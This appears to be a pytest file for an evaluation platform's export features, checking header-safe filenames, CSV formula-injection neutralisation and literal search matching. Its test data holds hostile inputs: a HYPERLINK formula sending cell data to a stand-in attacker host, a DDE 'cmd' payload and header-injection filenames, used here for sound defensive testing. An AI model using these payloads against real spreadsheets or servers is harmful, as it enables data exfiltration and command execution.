"""Dataset and run exports send a safe Content-Disposition for any name and neutralise
formula cells in CSV (``?raw=true`` keeps them); ``?q=`` matches ``%``, ``_`` and ``\\``
literally."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import httpx
import pytest

from tests.support.runs import seed, wait_run

FORMULAS = {"q": "=HYPERLINK(\"http://evil.example/?\"&A1)", "n": "-5", "at": "@SUM(A1)",
            "tab": "\tx", "quoted": "'=already quoted", "plain": "plain text"}


def _filename(response: httpx.Response) -> str:
    value = response.headers["content-disposition"]
    assert value.startswith('attachment; filename="')
    return unquote(value.split("filename*=UTF-8''", 1)[1])


@pytest.mark.parametrize("name", ["회귀 테스트", 'x"; filename=evil.exe', "a\r\nX-Injected: 1"])
async def test_dataset_export_names_any_dataset_safely(live_url, name):
    async with httpx.AsyncClient(base_url=live_url, timeout=30) as c:
        r = await c.post("/datasets", json={"name": name})
        if r.status_code == 422 and "\r" in name:
            pytest.skip("names with line breaks are refused at creation")
        assert r.status_code == 201, r.text
        ds = r.json()
        await c.post(f"/datasets/{ds['id']}/cases", json={"cases": [{"input": {"q": "hi"}}]})
        for fmt in ("csv", "jsonl"):
            r = await c.get(f"/datasets/{ds['id']}/export", params={"format": fmt})
            assert r.status_code == 200, r.text
            assert _filename(r) == f"{name}.{fmt}"
            assert "x-injected" not in r.headers
            assert r.headers["content-disposition"].count("filename=") == 1


async def test_dataset_csv_neutralises_formulas_raw_keeps_them_and_reimport_is_exact(client):
    ds = (await client.post("/datasets", json={"name": "formulas"})).json()
    r = await client.post(f"/datasets/{ds['id']}/cases", json={"cases": [
        {"input": FORMULAS, "expected_output": "+1", "metadata": {"description": "@desc"}}]})
    assert r.status_code == 201, r.text
    safe = (await client.get(f"/datasets/{ds['id']}/export", params={"format": "csv"})).text
    rows = list(csv.DictReader(io.StringIO(safe)))
    assert rows[0]["q"].startswith("'=HYPERLINK") and rows[0]["n"] == "'-5"
    assert (rows[0]["at"], rows[0]["tab"], rows[0]["quoted"], rows[0]["plain"]) == (
        "'@SUM(A1)", "'\tx", "''=already quoted", "plain text")
    assert (rows[0]["expected_output"], rows[0]["__description"]) == ("'+1", "'@desc")
    assert not any(cell[:1] in "=+-@\t\r" for row in csv.reader(io.StringIO(safe))
                   for cell in row if cell)
    raw = (await client.get(f"/datasets/{ds['id']}/export",
                            params={"format": "csv", "raw": "true"})).text
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert {k: rows[0][k] for k in FORMULAS} == FORMULAS
    copy = (await client.post("/datasets", json={"name": "copy"})).json()
    r = await client.post(f"/datasets/{copy['id']}/import",
                          files={"file": ("copy.csv", io.BytesIO(safe.encode()), "text/csv")})
    assert r.status_code == 201, r.text
    [case] = (await client.get(f"/datasets/{copy['id']}/cases")).json()["items"]
    assert case["input"] == FORMULAS and case["expected_output"] == "+1"
    assert case["metadata"]["description"] == "@desc"


async def test_run_csv_export_neutralises_a_formula_answer(stack_client):
    c = stack_client
    p, ds = await seed(c, name="inj", versions=["=cmd|' /C calc'!A0 {{ x }}"],
                       cases=[{"input": {"x": "1"}}])
    r = await c.post("/runs", json={"dataset_id": ds["id"], "models": ["echo"],
                                    "targets": [{"prompt_id": p["id"], "version": 1}]})
    assert r.status_code == 202, r.text
    run = await wait_run(c, r.json()["id"])
    safe = await c.get(f"/runs/{run['id']}/export", params={"format": "csv"})
    assert _filename(safe) == f"run-{run['id']}.csv"
    [row] = list(csv.DictReader(io.StringIO(safe.text)))
    assert row["output"].startswith("'=cmd|")
    raw = await c.get(f"/runs/{run['id']}/export", params={"format": "csv", "raw": "true"})
    [row] = list(csv.DictReader(io.StringIO(raw.text)))
    assert row["output"].startswith("=cmd|")
    js = await c.get(f"/runs/{run['id']}/export")
    assert _filename(js) == f"run-{run['id']}.json"
    assert js.json()["results"][0]["output"].startswith("=cmd|")  # JSON is never altered


async def test_q_matches_percent_underscore_and_backslash_literally(client):
    names = ["100% sure", "100 percent", "a_b", "axb", "back\\slash", "backslash"]
    for n in names:
        assert (await client.post("/prompts", json={"name": n, "content": "x"})).status_code \
            == 201
        assert (await client.post("/datasets", json={"name": n})).status_code == 201
    for path in ("/prompts", "/datasets"):
        async def found(q: str, path: str = path) -> list[str]:
            body = (await client.get(path, params={"q": q})).json()
            assert body["total"] == len(body["items"])
            return sorted(i["name"] for i in body["items"])
        assert await found("100%") == ["100% sure"]
        assert await found("a_b") == ["a_b"]
        assert await found("\\") == ["back\\slash"]
        assert await found("%") == ["100% sure"]
        assert await found("_") == ["a_b"]
        assert len(await found("")) == len(names)
